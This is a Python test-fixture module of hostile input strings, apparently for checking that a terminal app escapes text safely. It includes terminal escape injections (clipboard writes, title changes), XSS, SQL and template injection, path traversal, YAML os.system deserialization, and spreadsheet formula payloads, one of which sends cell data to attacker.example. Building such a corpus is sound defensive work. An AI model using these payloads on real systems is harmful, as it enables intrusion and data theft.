"""Strings that attack whoever shows, stores, searches or exports them.

Each is short enough to stand in any field. What is large is made by `ten_megabytes` and
`deep_json`. `WORD` stands in every one, so that a test can see that the text itself arrived.
"""

from __future__ import annotations

import json

WORD = "Quokka"
# What an attack would put on the clipboard, and run: neither may ever be seen outside text.
STOLEN = "SE9TVElMRQ=="

_CHUNKS = 8
_C0 = "".join(map(chr, range(32)))
_C1 = "".join(map(chr, range(0x7F, 0xA0)))
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
TAGS = "".join(map(chr, range(0xE0000, 0xE0080)))

STRINGS: dict[str, str] = {
    "csi": f"{WORD}\x1b[31m\x1b[2J\x1b[6n\x1b[?1049l\x1b[?1003h\x1b[20t\x1b[200~red",
    "osc title": f"{WORD}\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "osc 52": f"{WORD}\x1b]52;c;{STOLEN}\x07\x1b]52;p;{STOLEN}\x1b\\",
    "osc 8": f"{WORD}\x1b]8;;file:///etc/passwd\x07link\x1b]8;;\x07",
    "osc files": f"{WORD}\x1b]1337;File=name=eA==;inline=1:eA==\x07\x1b]50;#1\x07\x1b]4;1;?\x07",
    "dcs": f"{WORD}\x1bP$qm\x1b\\\x1bP+q544e\x1b\\\x1bPtmux;\x1b\x1b]52;c;{STOLEN}\x07\x1b\\",
    "apc pm sos": f"{WORD}\x1b_Gi=1,a=q;AAAA\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\\x1bkscreen\x1b\\",
    "esc": f"{WORD}\x1bc\x1b(0\x1b#8\x1b>\x1bM\x1b7\x1b8\x1bZ\x1b",
    "c0": f"{WORD}{_C0}end",
    "c1": f"{WORD}{_C1}end\x9b31m\x9d52;c;{STOLEN}\x9c\x90q\x9c",
    "bidi": f"{WORD}{BIDI}drowssap\u202e",
    "tags": f"{WORD}{TAGS}",
    "storm": WORD + "e" + "\u0301\u0489\u20dd" * 400,
    "joiners": WORD + "\u200d\u200c\u200b\u2060\ufe0f" * 400,
    "separators": f"{WORD}\u2028line\u2029paragraph\x85next\x0bup\x0cpage\rback",
    "marks": f"{WORD}\ufeff\ufffe\uffff\ufff9\ufffa\ufffb\U0001fffe",
    "surrogate": f"{WORD}\ud800\udfff\udc80",
    "textual": f"[/] [bold]{WORD}[/bold] [@click=app.quit]q[/] [[ ] $accent [on red",
    "rich": f"[link=file:///etc/passwd]{WORD}[/link] [blink]:smiley: [/foo] \\[bold]",
    "percent": f"{WORD} %s %n %(name)s {{0}} {{name!r:>{{w}}}} ${{HOME}} `id` $(id)",
    "template": f"{WORD} {{{{7*7}}}} {{% raw %}} <%= 7*7 %> #{{7*7}} @import",
    "path": f"../../../{WORD}/../etc/passwd",
    "windows path": f"C:\\{WORD}\\..\\CON.txt:stream|cmd&",
    "option": f"--library=/{WORD}",
    "formula": f'=HYPERLINK("http://attacker.example/"&A1;"{WORD}")',
    "formula at": f"@SUM(1+1)*cmd|' /C calc'!A0 {WORD}",
    "formula hidden": f'{WORD};=1+1;"=2+2\t=3+3\n=4+4\r\n+5|=6+6',
    "formula wide": f"\uff1d1+1 {WORD}",
    "html": f"<img src=x onerror=hit()>{WORD}</p></title></style></textarea><b",
    "script": f"</script><script>hit()</script>{WORD}<svg onload=hit()><!--",
    "attribute": f"\" onmouseover=hit() autofocus onfocus=hit() x='{WORD}' `",
    "javascript": f"javascript:hit()//{WORD}",
    "data url": f"data:text/html,<script>hit()</script>{WORD}",
    "markdown": f"[{WORD}](javascript:hit()) ![x](http://attacker.example/p.png) <script>hit()",
    "sql": f"{WORD}'; DROP TABLE article; -- \" OR 1=1",
    "query": f'{WORD} "unclosed status: speaker:" is:is: -- * ( [ \\ ^ ~9',
    "yaml": f"{WORD}: !!python/object/apply:os.system ['id'] &a *a |\n- x",
    "xml": f"<![CDATA[{WORD}]]>&lt;&amp;&#27;[31m&#x9b;&#x202e;&nosuch;",
    "escaped": f"{WORD} \\x1b[31m \\u001b[31m &#27;[31m %1b%5b31m ^[[31m",
    "numbers": f"{WORD} 1e999999 -0 NaN Infinity 9999999999999999999999999 0x1p-1074",
    "empty": f" \u3164\u2800\u00a0 {WORD} \u3164",
}


def joined() -> str:
    """Put all strings in one, a paragraph each."""
    return "\n\n".join(STRINGS.values())


def chunks() -> list[str]:
    """Put the strings together in a few, so that each starts with another sort of attack."""
    texts = list(STRINGS.values())
    return [" ".join(texts[at::_CHUNKS]) for at in range(_CHUNKS)]


def ten_megabytes() -> str:
    """Make a text of ten million characters without a line break, most of it one word."""
    return f"{WORD} said that 45 bridges were closed in March 2023. " + "x" * 10_000_000


def deep_json(levels: int = 100_000) -> str:
    """Make sound JSON that is nested so deep that a parser runs out of stack."""
    return "[" * levels + "]" * levels


def twice(key: str, value: str) -> str:
    """Make a JSON object that holds one key twice, the second time innocent."""
    return f'{{"{key}": {json.dumps(value)}, "{key}": "innocent"}}'


def faults(output: str) -> list[str]:
    """Tell what of hostile text has reached a terminal as more than text.

    Args:
        output: All that was written to it, the program's own sequences among it.

    Returns:
        One line for each fault; nothing where there is none.
    """
    found = [name for name, sign in _SEQUENCES.items() if sign in output]
    classes = {"C0": set(_C0) - set("\t\n\r\x07\x08\x1b"), "C1": set(_C1)}
    classes |= {"bidi": set(BIDI), "tags": set(TAGS), "lines": set("\u2028\u2029\ufeff")}
    present = set(output)
    found += [name for name, characters in classes.items() if characters & present]
    return found


# None of these is ever written by claimdesk, Textual or a shell of its own accord.
_SEQUENCES = {
    "colour": "\x1b[31m",
    "position report": "\x1b[6n",
    "window report": "\x1b[20t",
    "pasting": "\x1b[200~",
    "title": "\x1b]0;owned",
    "window title": "\x1b]2;owned",
    "clipboard": f"\x1b]52;c;{STOLEN}",
    "clipboard, primary": f"\x1b]52;p;{STOLEN}",
    "link": "\x1b]8;;file",
    "image": "\x1b]1337",
    "font": "\x1b]50",
    "palette": "\x1b]4;1",
    "status": "\x1bP$q",
    "terminfo": "\x1bP+q",
    "passthrough": "\x1bPtmux;\x1b\x1b]52;c;SE9T",
    "graphics": "\x1b_G",
    "privacy": "\x1b^",
    "string": "\x1bX",
    "screen title": "\x1bk",
    "reset": "\x1bc",
    "alignment": "\x1b#8",
    "graphic set": "\x1b(0",
    "identify": "\x1bZ",
}
